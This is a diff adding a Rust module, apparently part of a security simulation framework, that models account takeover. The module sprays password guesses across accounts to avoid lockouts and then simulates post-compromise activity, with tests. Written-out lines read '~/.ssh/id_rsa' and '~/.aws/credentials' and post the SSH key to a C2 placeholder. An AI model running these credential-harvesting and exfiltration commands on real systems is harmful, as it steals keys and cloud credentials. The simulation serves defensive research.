@@ -1,0 +1,182 @@
+//! Account takeover: online guessing / credential stuffing at the hub,
+//! then post-compromise hands-on-keyboard activity. Fig. 3 routes this
+//! avenue into *exposed data* and *disruption of computing*.
+
+use crate::campaign::{Campaign, CampaignStep};
+use crate::AttackClass;
+use ja_kernelsim::actions::{Action, CellScript};
+use ja_netsim::addr::HostAddr;
+use ja_netsim::time::Duration;
+
+/// Takeover parameters.
+#[derive(Clone, Debug)]
+pub struct TakeoverParams {
+    /// Attacker source address.
+    pub src: HostAddr,
+    /// Guesses per target account.
+    pub guesses_per_account: usize,
+    /// Seconds between guesses (low-and-slow raises this).
+    pub guess_interval_secs: f64,
+    /// Target usernames (sprayed in round-robin).
+    pub targets: Vec<String>,
+    /// Run post-compromise activity on this server afterwards (models
+    /// the attacker having identified the victim's server).
+    pub post_compromise_server: Option<usize>,
+}
+
+impl Default for TakeoverParams {
+    fn default() -> Self {
+        TakeoverParams {
+            src: HostAddr::external(77),
+            guesses_per_account: 40,
+            guess_interval_secs: 2.0,
+            targets: Vec::new(),
+            post_compromise_server: None,
+        }
+    }
+}
+
+/// Build a takeover campaign. Guesses are sprayed across targets
+/// (password spraying — one guess per account per round — defeats simple
+/// per-account lockouts).
+pub fn campaign(params: &TakeoverParams) -> Campaign {
+    let mut steps = Vec::new();
+    let mut t = Duration::ZERO;
+    for round in 0..params.guesses_per_account {
+        for target in &params.targets {
+            steps.push(CampaignStep::AuthGuess {
+                username: target.clone(),
+                src: params.src,
+                offset: t,
+            });
+            t = t + Duration::from_secs_f64(params.guess_interval_secs.max(0.001));
+        }
+        let _ = round;
+    }
+    if let Some(server) = params.post_compromise_server {
+        if let Some(user) = params.targets.first() {
+            // Post-compromise: look around, grab credentials files.
+            t = t + Duration::from_secs(30);
+            steps.push(CampaignStep::Terminal {
+                server,
+                user: user.clone(),
+                offset: t,
+                cmdline: "cat ~/.ssh/id_rsa ~/.aws/credentials 2>/dev/null".into(),
+            });
+            t = t + Duration::from_secs(10);
+            steps.push(CampaignStep::Cell {
+                server,
+                user: user.clone(),
+                offset: t,
+                script: CellScript::new(
+                    "requests.post(C2, files={'f': open('.ssh/id_rsa')})",
+                    vec![
+                        Action::Connect {
+                            dst: params.src,
+                            dst_port: 443,
+                        },
+                        Action::SendBytes {
+                            bytes: 8192,
+                            entropy_high: false,
+                        },
+                    ],
+                ),
+            });
+        }
+    }
+    Campaign {
+        class: Some(AttackClass::AccountTakeover),
+        name: format!("takeover-{}targets", params.targets.len()),
+        steps,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::campaign::execute;
+    use ja_kernelsim::deployment::{Deployment, DeploymentSpec};
+    use ja_kernelsim::hub::AuthOutcome;
+    use ja_netsim::time::SimTime;
+
+    #[test]
+    fn spraying_fills_auth_log() {
+        let mut d = Deployment::build(&DeploymentSpec::campus(21));
+        let targets: Vec<String> = (0..4).map(|i| d.owner_of(i).to_string()).collect();
+        let params = TakeoverParams {
+            targets,
+            guesses_per_account: 25,
+            ..Default::default()
+        };
+        let c = campaign(&params);
+        let out = execute(&mut d, &[(SimTime::ZERO, c)], 4);
+        assert_eq!(out.auth_log.len(), 100);
+        // All from the attacker address.
+        assert!(out.auth_log.iter().all(|e| e.src == params.src));
+    }
+
+    #[test]
+    fn breached_population_yields_compromises() {
+        // A population with many breached creds and no MFA falls fast.
+        let spec = ja_kernelsim::deployment::DeploymentSpec {
+            servers: 10,
+            misconfig_rate: 0.0,
+            weak_cred_fraction: 0.0,
+            breached_cred_fraction: 1.0,
+            mfa_fraction: 0.0,
+            seed: 77,
+        };
+        let mut d = Deployment::build(&spec);
+        let targets: Vec<String> = (0..10).map(|i| d.owner_of(i).to_string()).collect();
+        let params = TakeoverParams {
+            targets,
+            guesses_per_account: 20,
+            ..Default::default()
+        };
+        let out = execute(&mut d, &[(SimTime::ZERO, campaign(&params))], 5);
+        let successes = out
+            .auth_log
+            .iter()
+            .filter(|e| e.outcome == AuthOutcome::Success)
+            .count();
+        assert!(successes >= 5, "got {successes}");
+    }
+
+    #[test]
+    fn post_compromise_steps_present() {
+        let mut d = Deployment::build(&DeploymentSpec::small_lab(22));
+        let victim = d.owner_of(0).to_string();
+        let params = TakeoverParams {
+            targets: vec![victim],
+            guesses_per_account: 5,
+            post_compromise_server: Some(0),
+            ..Default::default()
+        };
+        let c = campaign(&params);
+        let out = execute(&mut d, &[(SimTime::ZERO, c)], 6);
+        // Terminal credential harvesting audited.
+        assert!(d.servers[0]
+            .terminals
+            .iter()
+            .any(|t| !t.grep(".ssh/id_rsa").is_empty()));
+        // Outbound flow back to the attacker.
+        assert!(out
+            .trace
+            .flow_summaries()
+            .iter()
+            .any(|f| f.tuple.dst == params.src));
+    }
+
+    #[test]
+    fn guess_interval_paces_campaign() {
+        let params = TakeoverParams {
+            targets: vec!["a".into(), "b".into()],
+            guesses_per_account: 3,
+            guess_interval_secs: 10.0,
+            ..Default::default()
+        };
+        let c = campaign(&params);
+        // 6 guesses at 10 s spacing ⇒ last offset 50 s.
+        assert_eq!(c.duration(), Duration::from_secs(50));
+    }
+}
